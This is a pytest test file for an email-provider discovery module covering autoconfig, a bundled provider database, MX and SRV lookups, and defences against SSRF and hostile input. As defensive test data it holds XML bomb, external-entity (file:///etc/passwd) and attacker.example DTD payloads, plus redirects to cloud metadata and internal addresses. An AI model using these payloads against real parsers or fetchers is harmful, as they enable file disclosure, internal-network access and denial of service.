# SPDX-License-Identifier: LGPL-3.0-only
"""From an address to its provider: what is found, who says so, and what is not believed."""

import json
import subprocess
import sys
import time
from collections import Counter
from pathlib import Path

import pytest
from corpus import AUTOCONFIG, BY_MX, DATABASE, FREE, HOSTED, SERVICES, UNKNOWN, WELL_KNOWN
from internet import HOST, Internet, config

from discovery import (
    SECONDS,
    MailServer,
    Network,
    NotAutoconfig,
    Preset,
    Refused,
    find,
    is_inside,
    read_autoconfig,
    resolver,
)
from discovery.find import ispdb
from discovery.servers import is_host
from routing.dns_providers import PROVIDERS

PATH = "/mail/config-v1.1.xml"
WELL_KNOWN_PATH = "/.well-known/autoconfig/mail/config-v1.1.xml"

ROOT = Path(__file__).parents[2]

#: as the addon's presets are: the key is the SMTP host here
PRESETS = [Preset(one.smtp_host, {one.smtp_host}, one.domains, one.has_mx) for one in PROVIDERS] + [
    Preset("smtp.qq.com", {"smtp.qq.com"}, {"qq.com", "vip.qq.com", "foxmail.com"}),
    Preset("smtp.163.com", {"smtp.163.com"}, {"163.com"}),
    # the database's server that sends for it is another one
    Preset("smtp.office365.com", {"outlook.office365.com"}),
]


@pytest.fixture(scope="module")
def started():
    with Internet() as world:
        yield world


@pytest.fixture
def internet(started):
    started.clear()
    return started


def way_into(internet, **values):
    return Network(**internet.way_in(**values))


def smtp_host(finding):
    found = finding.found
    if not found:
        return None
    return found.preset or found.servers.smtp.host


# --- who is believed -----------------------------------------------------------------------


def test_presets_need_no_network():
    finding = find("kim@ours.example", [Preset(7, domains={"ours.example"})])
    assert (finding.found.source, finding.found.preset) == ("domain", 7)
    assert finding.found.public
    assert find("kim@qq.com", PRESETS).found.preset == "smtp.qq.com"
    assert find("kim@unknown.example", PRESETS).found is None


@pytest.mark.parametrize(
    "address", ["", "kim", "kim@", "@", "kim@localhost", "kim@10.0.0.1", "a b"]
)
def test_what_is_no_address_is_asked_of_nobody(internet, address):
    assert find(address, PRESETS, way_into(internet)).found is None
    assert not internet.asked


def test_the_mail_exchangers(internet):
    internet.mx["d.com"] = [(5, "mxbiz1.qq.com"), (10, "mxbiz2.qq.com")]
    found = find("kim@d.com", PRESETS, way_into(internet)).found
    assert (found.source, found.where, found.preset) == ("mx", "d.com", "smtp.exmail.qq.com")
    assert not found.public


def test_thunderbirds_order(internet, tmp_path):
    """The domain's own file first, then the database, its exchangers, its services."""
    internet.srv["_submissions._tcp.posteo.de"] = (0, 465, "smtp.posteo.de")
    steps = [
        ("srv", lambda: None),
        ("mx", lambda: internet.mx.update({"posteo.de": [(5, "mxbiz1.qq.com")]})),
        ("ispdb", lambda: known.pop()),
        ("well_known", lambda: internet.site("posteo.de", WELL_KNOWN_PATH, file)),
        ("autoconfig", lambda: internet.site("autoconfig.posteo.de", PATH, file)),
    ]
    file = config("smtp.posteo.de")
    nobody = tmp_path / "ispdb.json"
    nobody.write_text('{"providers": []}')
    known = [ispdb.FILE, nobody]
    for source, add in steps:
        add()
        found = find("kim@posteo.de", PRESETS, way_into(internet), known[-1]).found
        assert found.source == source


def test_a_configuration_file(internet):
    internet.site("autoconfig.d.com", PATH, config("smtp.d.com"))
    found = find("kim@d.com", PRESETS, way_into(internet)).found
    assert found.servers.smtp == MailServer("smtp.d.com", 465, "ssl", "address")
    assert found.servers.imap == MailServer("imap.d.com", 993, "ssl", "address")
    # one that names a preset's server is that preset
    internet.sites["autoconfig.d.com", PATH] = config("smtp.exmail.qq.com")
    assert find("kim@d.com", PRESETS, way_into(internet)).found.preset == "smtp.exmail.qq.com"


def test_a_page_for_everything_is_no_configuration(internet):
    internet.site("autoconfig.d.com", PATH, b"<!DOCTYPE html><html><body>Welcome<br></html>")
    internet.site("d.com", WELL_KNOWN_PATH, b"<html><body>Welcome</body></html>")
    internet.mx["d.com"] = [(5, "mx1.qiye.aliyun.com")]
    finding = find("kim@d.com", PRESETS, way_into(internet))
    assert finding.found.preset == "smtp.qiye.aliyun.com"
    assert not finding.refused


def test_services(internet):
    internet.srv.update(
        {
            "_submission._tcp.d.com": (0, 587, "mail.d.com"),
            "_imaps._tcp.d.com": (0, 993, "mail.d.com"),
            "_pop3s._tcp.d.com": (0, 0, "."),
        }
    )
    servers = find("kim@d.com", PRESETS, way_into(internet)).found.servers
    assert servers.smtp == MailServer("mail.d.com", 587, "starttls")
    assert servers.imap == MailServer("mail.d.com", 993, "ssl")
    assert servers.pop is None
    internet.srv["_submissions._tcp.d.com"] = (0, 465, "smtp.d.com")
    servers = find("kim@d.com", PRESETS, way_into(internet)).found.servers
    assert servers.smtp.encryption == "ssl", "RFC 8314 prefers it"


# --- the database --------------------------------------------------------------------------


def test_the_database_needs_no_network():
    found = find("kim@posteo.net", PRESETS).found
    assert (found.source, found.servers.smtp) == (
        "ispdb",
        MailServer("posteo.de", 465, "ssl", "address"),
    )
    assert found.public
    assert find("kim@nobody.example", PRESETS).found is None


def test_the_database_says_what_one_logs_in_with():
    servers = find("kim@web.de", PRESETS).found.servers
    assert (servers.smtp.login, servers.imap.login) == ("local", "local")
    assert find("kim@t-online.de", PRESETS).found.servers.smtp.login == "address"


def test_what_takes_oauth_alone_is_the_preset_that_does():
    preset = Preset(7, hosts={"smtp.office365.com", "outlook.office365.com"})
    assert find("kim@hotmail.de", [preset]).found.preset == 7


def test_nobody_else_is_told_the_domain(internet):
    find("kim@nobody.example", PRESETS, way_into(internet))
    assert {name for name, _kind in internet.asked} == {
        "nobody.example",
        "autoconfig.nobody.example",
        "_submissions._tcp.nobody.example",
        "_submission._tcp.nobody.example",
    }


def test_what_is_shipped():
    """One provider a line, each domain once, and no server without TLS."""
    lines = ispdb.FILE.read_text("utf-8").splitlines()
    providers = json.loads(ispdb.FILE.read_text("utf-8"))["providers"]
    assert [json.loads(line.rstrip(",")) for line in lines[1:-1]] == providers
    domains = [domain for provider in providers for domain in provider["domains"]]
    assert len(domains) == len(set(domains)) >= 800
    assert all(is_host(domain) and domain == domain.lower() for domain in domains)
    for servers in ispdb.load().values():
        assert servers.smtp
        assert servers.smtp.encryption in ("ssl", "starttls")
        # Odoo fetches by TLS from the first byte on only
        assert {server.encryption for server in servers.all()[1:]} <= {"ssl"}
        for server in servers.all():
            assert is_host(server.host)
            assert server.port in range(1, 65536)
            assert server.login in ("address", "local", "")


def test_what_is_shipped_has_its_notice():
    notice = ispdb.FILE.with_name("ispdb.json.license").read_text("utf-8")
    for words in ("SPDX-License-Identifier: MPL-2.0", "https://mozilla.org/MPL/2.0/", "commit "):
        assert words in notice


def test_it_is_read_when_somebody_asks():
    """Once, and not when the addon is loaded."""
    code = (
        "import sys; sys.addaudithook(lambda event, args: event == 'open' and"
        " str(args[0]).endswith('ispdb.json') and print('read'));"
        "import discovery; print('loaded');"
        "discovery.find('kim@posteo.de'); discovery.find('kim@web.de')"
    )
    printed = subprocess.check_output([sys.executable, "-c", code], cwd=ROOT, text=True)
    assert printed.split() == ["loaded", "read"]


def test_the_file_is_made_of_configuration_files(tmp_path):
    from dev.commands.ispdb import read, write

    extra = "<domain>isp.example</domain><domain>ISP.test</domain><domain>no host</domain>"
    (tmp_path / "isp.example.xml").write_bytes(config("smtp.isp.example", extra=extra))
    (tmp_path / "other.xml").write_bytes(
        config("mail.%EMAILDOMAIN%", name="%EMAILDOMAIN%", extra=extra + "<domain>a.test</domain>")
    )
    (tmp_path / "plain.xml").write_bytes(
        config("smtp.d.com", encryption="plain", extra="<domain>d.com</domain>")
    )
    file = tmp_path / "data" / "made.json"
    write(read(tmp_path), "c0ffee", "2026-03-12", file)
    known = ispdb.load(file)
    assert set(known) == {"isp.example", "isp.test", "a.test"}
    assert known["isp.test"].smtp == MailServer("smtp.isp.example", 465, "ssl", "address")
    assert (known["a.test"].smtp.host, known["a.test"].name) == ("mail.a.test", "a.test")
    notice = (tmp_path / "data" / "made.json.license").read_text()
    assert "commit c0ffee of 2026-03-12" in notice


# --- what is not believed ------------------------------------------------------------------


@pytest.mark.parametrize(
    "address", ["10.0.0.1", "192.168.1.1", "172.16.0.1", "169.254.169.254", "100.64.0.1", "0.0.0.0"]
)
def test_a_name_that_leads_inside_is_not_connected_to(internet, address):
    internet.addresses["autoconfig.d.com"] = [address]
    finding = find("kim@d.com", PRESETS, way_into(internet))
    assert finding.found is None
    assert finding.refused == (Refused("autoconfig", "autoconfig.d.com", "inside"),)


def test_loopback_is_inside_for_users(internet):
    internet.site("autoconfig.d.com", PATH, config("smtp.d.com"))
    finding = find("kim@d.com", PRESETS, way_into(internet, loopback=False))
    assert finding.found is None
    assert Refused("autoconfig", "autoconfig.d.com", "inside") in finding.refused
    assert not internet.connections


def test_one_address_inside_among_several_is_enough(internet):
    internet.site("autoconfig.d.com", PATH, config("smtp.d.com"))
    internet.addresses["autoconfig.d.com"] = [HOST, "10.0.0.1"]
    assert find("kim@d.com", PRESETS, way_into(internet)).found is None
    assert not internet.connections


def test_a_name_that_means_something_else_a_moment_later(internet):
    """DNS rebinding: what was looked at is connected to."""
    internet.site("autoconfig.d.com", PATH, config("smtp.d.com"))
    internet.addresses["autoconfig.d.com"] = [[HOST], ["10.0.0.1"]]
    assert find("kim@d.com", PRESETS, way_into(internet)).found.source == "autoconfig"
    assert internet.asked.count(("autoconfig.d.com", "A")) == 1


@pytest.mark.parametrize(
    ("location", "why"),
    [
        ("http://autoconfig.d.com/other.xml", "insecure"),
        ("https://10.0.0.1/other.xml", "inside"),
        ("https://169.254.169.254/latest/meta-data/", "inside"),
        ("https://[::1]/other.xml", "inside"),
        ("https://[::ffff:10.0.0.1]/other.xml", "inside"),
        ("https://inner.d.com/other.xml", "inside"),
        ("https://autoconfig.d.com:8069/web", "insecure"),
        ("file:///etc/passwd", "insecure"),
        ("ftp://autoconfig.d.com/", "insecure"),
    ],
)
def test_a_redirect_that_leads_away(internet, location, why):
    internet.addresses["inner.d.com"] = ["192.168.0.7"]
    internet.site("autoconfig.d.com", PATH, (302, {"Location": location}, b""))
    finding = find("kim@d.com", PRESETS, way_into(internet))
    assert finding.found is None
    assert Refused("autoconfig", "autoconfig.d.com", why) in finding.refused
    assert internet.visits.count(("autoconfig.d.com", PATH)) == len(internet.visits)


def test_a_redirect_to_another_host_outside(internet):
    there = "https://config.provider.example/d.xml"
    internet.site("autoconfig.d.com", PATH, (301, {"Location": there}, b""))
    internet.site("config.provider.example", "/d.xml", config("smtp.provider.example"))
    found = find("kim@d.com", PRESETS, way_into(internet)).found
    assert found.servers.smtp.host == "smtp.provider.example"


def test_redirects_without_end(internet):
    internet.site("autoconfig.d.com", PATH, (302, {"Location": PATH}, b""))
    assert find("kim@d.com", PRESETS, way_into(internet)).found is None
    assert len([1 for host, _path in internet.visits if host == "autoconfig.d.com"]) == 4


def test_a_certificate_for_another_name(internet):
    internet.site("autoconfig.d.com", PATH, config("smtp.d.com"))
    internet.addresses["cert:autoconfig.d.com"] = "attacker.example"
    assert find("kim@d.com", PRESETS, way_into(internet)).found is None
    assert not internet.visits


def test_a_certificate_of_nobody(internet):
    internet.site("autoconfig.d.com", PATH, config("smtp.d.com"))
    assert find("kim@d.com", PRESETS, way_into(internet, ca=None)).found is None
    assert not internet.visits


LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">%s]>
<clientConfig><emailProvider><displayName>&lol9;</displayName></emailProvider></clientConfig>
""" % b"".join(
    b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
    for n in range(1, 10)
)
EXTERNAL = config("smtp.d.com", name="&file;").replace(
    b"<clientConfig", b'<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]><clientConfig', 1
)
OUTSIDE_DTD = config("smtp.d.com").replace(
    b"<clientConfig", b'<!DOCTYPE x SYSTEM "https://attacker.example/x.dtd"><clientConfig', 1
)


@pytest.mark.parametrize(
    "raw",
    [
        LAUGHS,
        EXTERNAL,
        OUTSIDE_DTD,
        EXTERNAL.decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        config("smtp.d.com") + b" " * 70_000,
    ],
    ids=["billion laughs", "external entity", "external DTD", "in UTF-16", "huge"],
)
def test_hostile_xml(internet, raw):
    internet.site("autoconfig.d.com", PATH, raw)
    finding = find("kim@d.com", PRESETS, way_into(internet))
    assert finding.found is None
    assert finding.refused == (Refused("autoconfig", "autoconfig.d.com", "hostile"),)
    assert "attacker.example" not in {name for name, _kind in internet.asked}


def test_a_page_that_never_ends(internet):
    sent = []

    def endless(handler):
        handler.send_response(200)
        handler.end_headers()
        while True:
            handler.wfile.write(b"x" * 65536)
            sent.append(65536)

    internet.site("autoconfig.d.com", PATH, endless)
    assert find("kim@d.com", PRESETS, way_into(internet)).found is None
    assert sum(sent) < 50_000_000


@pytest.mark.parametrize(
    "host",
    ["127.0.0.1", "localhost", "inner.d.com", "10.0.0.1", "0x7f.1", "2130706433", "-x.d.com", ""],
)
def test_servers_that_lead_inside(internet, host):
    internet.addresses["inner.d.com"] = ["192.168.0.7"]
    internet.site("autoconfig.d.com", PATH, config(host, incoming="imap.d.com"))
    assert find("kim@d.com", PRESETS, way_into(internet)).found is None


@pytest.mark.parametrize(
    "port", ["0", "65536", "-1", "x", "", "٤٦٥", "9" * 400, "000443999", "0" * 9 + "1"]
)
def test_ports_that_are_none(port):
    with pytest.raises(NotAutoconfig):
        read_autoconfig(config("smtp.d.com", port=port))


def test_no_server_without_tls():
    with pytest.raises(NotAutoconfig):
        read_autoconfig(config("smtp.d.com", encryption="plain"))


def test_a_password_before_oauth():
    raw = config("smtp.d.com").replace(
        b"<outgoingServer",
        b'<outgoingServer type="smtp"><hostname>oauth.d.com</hostname><port>587</port>'
        b"<socketType>STARTTLS</socketType><authentication>OAuth2</authentication>"
        b"</outgoingServer><outgoingServer",
        1,
    )
    assert read_autoconfig(raw).smtp.host == "smtp.d.com"


def test_services_of_somebody_else(internet):
    """Records without a proof must not send a password elsewhere (RFC 6186 6)."""
    internet.srv["_submissions._tcp.d.com"] = (0, 465, "smtp.attacker.example")
    finding = find("kim@d.com", PRESETS, way_into(internet))
    assert finding.found is None
    assert finding.refused == (Refused("srv", "d.com", "foreign"),)
    internet.srv["_submissions._tcp.d.com"] = (0, 465, "smtp.d.com")
    internet.srv["_imaps._tcp.d.com"] = (0, 993, "imap.attacker.example")
    assert find("kim@d.com", PRESETS, way_into(internet)).found is None


@pytest.mark.parametrize(
    "address",
    [
        "::1",
        "fe80::1",
        "fc00::1",
        "::ffff:127.0.0.1",
        "64:ff9b::a00:1",
        "2002:a00:1::",
        "224.0.0.1",
    ],
)
def test_addresses_inside(address):
    assert is_inside(address)


@pytest.mark.parametrize("address", ["8.8.8.8", "2001:4860:4860::8888", "::ffff:8.8.8.8"])
def test_addresses_outside(address):
    assert not is_inside(address)


# --- without ------------------------------------------------------------------------------


def test_nobody_answers(internet):
    """A host that says nothing costs two seconds, and what else is known is still found."""
    released = []

    def silent(handler):
        start = time.monotonic()
        while time.monotonic() < start + 20 and not handler.connection.recv(1):
            break
        released.append(True)

    internet.site("autoconfig.d.com", PATH, silent)
    internet.mx["d.com"] = [(5, "mxbiz1.qq.com")]
    start = time.monotonic()
    found = find("kim@d.com", PRESETS, way_into(internet)).found
    took = time.monotonic() - start
    assert found.preset == "smtp.exmail.qq.com"
    assert took < SECONDS + 1


def test_without_dnspython(internet, monkeypatch):
    monkeypatch.setattr(resolver, "dns", None)
    internet.mx["d.com"] = [(5, "mxbiz1.qq.com")]
    finding = find("kim@d.com", PRESETS, Network(deadline=0))
    assert finding.found is None
    assert not finding.asked_dns
    assert find("kim@qq.com", PRESETS, Network()).found.preset == "smtp.qq.com"


# --- the corpus ----------------------------------------------------------------------------


def corpus(internet):
    """Lay the corpus out; give address -> SMTP host, None where it cannot be known."""
    expected = {**FREE, **DATABASE}
    for domain, (exchangers, host) in BY_MX.items():
        internet.mx[domain] = exchangers
        expected[f"kim@{domain}"] = host
    for domain, exchangers in UNKNOWN.items():
        internet.mx[domain] = exchangers
        expected[f"kim@{domain}"] = None
    for domain, (exchanger, host) in HOSTED.items():
        internet.mx[domain] = [(10, exchanger)]
        expected[f"kim@{domain}"] = host
    for domain, host in AUTOCONFIG.items():
        internet.site(f"autoconfig.{domain}", PATH, config(host))
        expected[f"kim@{domain}"] = host
    internet.mx["autoconfig-c.com"] = [(10, "aspmx.l.google.com")]
    for domain, host in WELL_KNOWN.items():
        internet.site(domain, WELL_KNOWN_PATH, config(host))
        expected[f"kim@{domain}"] = host
    for domain, host in SERVICES.items():
        internet.srv[f"_submissions._tcp.{domain}"] = (0, 465, host)
        expected[f"kim@{domain}"] = host
    return expected


def test_the_corpus(internet, capsys):
    expected = corpus(internet)
    counts, wrong = Counter(), []
    for address, host in expected.items():
        given = smtp_host(find(address, PRESETS, way_into(internet)))
        outcome = "right" if given == host else "unknown" if given is None else "wrong"
        counts["rightly unknown" if given is host is None else outcome] += 1
        if given != host:
            wrong.append((address, host, given))
    with capsys.disabled():
        sys.stdout.write(f"\n  {len(expected)} addresses: {dict(counts)}\n")
    assert len(expected) >= 80
    assert not wrong
